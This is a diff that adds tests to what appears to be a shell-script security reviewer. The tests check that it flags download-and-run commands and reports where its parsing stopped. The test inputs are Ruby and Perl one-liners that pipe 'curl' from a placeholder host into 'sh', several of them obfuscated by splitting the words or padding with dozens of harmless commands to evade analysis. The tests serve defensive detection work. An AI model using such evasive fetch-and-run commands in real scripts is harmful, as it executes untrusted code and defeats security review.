@@ -109,3 +109,51 @@ describe('a command built as a list and joined', () => {
   });
 });
 
+
+describe('a Ruby or Perl one-liner that builds its command of more parts than are read', () => {
+  const URL = 'https://x.example.invalid/i.sh';
+  const run = (code: string) => review('scripts/run.sh', `#!/bin/sh\n${code}\n`);
+  const NOTE_PARTS = 'scripts/run.sh was read as code only up to line 2: it builds a string or list of more than 40 parts. What follows was checked with the text patterns only.';
+  const trues = (n: number) => Array.from({ length: n }, () => '"true"').join(', ');
+
+  it('the split command alone, and after a few empty strings, is read and found', () => {
+    for (const code of [`ruby -e 'system("cu" + "rl -s ${URL} | s" + "h")'`, `ruby -e 'system(${Array.from({ length: 30 }, () => '""').join(' + ')} + "cu" + "rl -s ${URL} | s" + "h")'`]) {
+      const r = run(code);
+      expect(ids(r)).toContain('risk-fetch-and-run');
+      expect(notes(r)).toEqual([]);
+    }
+  });
+
+  it('45 empty strings joined before the split command: the review says where reading stopped', () => {
+    const r = run(`ruby -e 'system(${Array.from({ length: 45 }, () => '""').join(' + ')} + "cu" + "rl -s ${URL} | s" + "h")'`);
+    expect(notes(r)).toEqual([NOTE_PARTS]);
+  });
+
+  it('a list grown by 45 harmless commands and then the download, joined and run: said, and the text patterns find it', () => {
+    const r = run(`ruby -e 'cmds = []; ${'cmds << "true"; '.repeat(45)}cmds << "curl -s ${URL} | sh"; system(cmds.join(" ; "))'`);
+    expect(notes(r)).toEqual([NOTE_PARTS]);
+    expect(ids(r)).toContain('risk-fetch-and-run');
+  });
+
+  it('a Perl list of 45 harmless commands and then the download, joined and run: said, and found', () => {
+    for (const code of [`perl -e 'my @c = (${trues(45)}, "curl -s ${URL} | sh"); system(join(" ; ", @c))'`, `perl -e 'my @c = (); ${'push @c, "true"; '.repeat(45)}push @c, "curl -s ${URL} | sh"; system(join(" ; ", @c))'`]) {
+      const r = run(code);
+      expect(notes(r)).toEqual([NOTE_PARTS]);
+      expect(ids(r)).toContain('risk-fetch-and-run');
+    }
+  });
+
+  it('a block over 20 harmless commands and then the download, each given to sh -c: said, and found', () => {
+    const r = run(`ruby -e 'cmds = [${trues(20)}, "curl -s ${URL} | sh"]; cmds.each { |c| system("sh", "-c", c) }'`);
+    expect(notes(r)).toEqual(['scripts/run.sh was read as code only up to line 2: a string it builds may be more than 16 different strings. What follows was checked with the text patterns only.']);
+    expect(ids(r)).toContain('risk-fetch-and-run');
+  });
+
+  it('a Perl list of 2 and a block over 3: read as they are, nothing said', () => {
+    for (const code of [`perl -e 'my @c = ("true", "curl -s ${URL} | sh"); system(join(" ; ", @c))'`, `ruby -e 'cmds = ["true", "date", "curl -s ${URL} | sh"]; cmds.each { |c| system("sh", "-c", c) }'`]) {
+      const r = run(code);
+      expect(ids(r)).toContain('risk-fetch-and-run');
+      expect(notes(r)).toEqual([]);
+    }
+  });
+});
